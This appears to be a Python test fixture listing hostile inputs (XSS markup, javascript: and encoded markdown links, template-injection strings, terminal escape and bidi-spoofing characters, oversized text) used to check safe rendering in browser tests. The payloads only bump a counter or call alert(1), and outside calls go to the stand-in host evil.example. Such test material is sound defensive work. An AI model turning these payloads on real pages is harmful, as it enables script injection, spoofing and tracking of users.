"""Text that wants to do harm or to break the picture, for every place where text of a model, a server, a file or a person is shown.

A script that runs counts itself in ``window.omHarm`` or opens a dialog; a request goes to ``evil.example``. ``LabPage.harm`` in
``tests/browser`` tells what of that has happened.
"""

from __future__ import annotations

_RUN = "window.omHarm=(window.omHarm??0)+1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror='{_RUN}'>",
    f'"><svg onload="{_RUN}"><animate onbegin="{_RUN}" attributeName=x dur=1s>',
    f"<details open ontoggle='{_RUN}'><summary>x</summary></details>",
    f"</td></tr></table></details></section><iframe src=//evil.example srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "<style>@import 'https://evil.example/a.css'; * { display: none }</style><link rel=stylesheet href=//evil.example>",
    "<form action=https://evil.example><button autofocus>x</button></form><base href=//evil.example><meta http-equiv=refresh content=0>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62; &amp;lt;b&amp;gt;",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{_RUN}'>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> {{ .System }}",
)

MARKDOWN = (
    "![pixel](https://evil.example/p.png) ![](//evil.example/q.png)",
    f"![x](javascript:{_RUN}) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>1</script>) <javascript:alert(1)>",
    "[a](https://evil.example/\"onmouseover=\"alert(1)) [b][r]\n\n[r]: javascript:alert(1) 'x'",
    "[c](&#106;avascript:alert(1)) [e](java\u0000script:alert(1)) [f](//evil.example) [g](vbscript:alert(1))",
    "[d](\tjava\nscript:alert(1)) [h](&#x6a;avascript:alert(1))",
    '[ok](https://good.example/path "t\\" onclick=1") <https://good.example>',
    '```<script>\nalert(1)\n```\n\n```html" onclick="x\n</pre><script>1</script>\n```',
    "`</code><script>1</script>`",
    "$\\href{javascript:alert(1)}{x}$ \\(\\unicode{x3c}\\) $$\\require{html}$$ \\[x\\] \\begin{align}x\\end{align}",
    "| a |\n|---|\n| <script>1</script> |",
    "# <h1 id=x>head</h1>\n\nSetext\n======",
    "> " * 60 + "deep",
    "* " * 40 + "deep too",
    "[" * 50 + "x" + "](y)" * 50,
)

CHARACTERS = (
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \x08\x08 \rover",
    "user\u202egnp.exe \u2066isolate\u2069 \u2028 \u2029 \ufeff \U000e0041\U000e007f",
    "\x00 nul, \x0b tab, \x85 next line, \u00a0\u200b\u200d\u2060 nothing to see",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 12,
    "a" * 3000,
    "\u4e00" * 600,
    "https://good.example/" + "path/" * 300,
    "\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd! (42) \u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "\U0001f600 \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f1e9\U0001f1ea \u2764\ufe0f e\u0301",
    " ".join(chr(plane * 0x10000 + 0x0410) for plane in range(17)),
)

HOSTILE = (*MARKUP, *MARKDOWN, *CHARACTERS)
"""All of them; each is valid Unicode, as everything that comes as JSON is."""
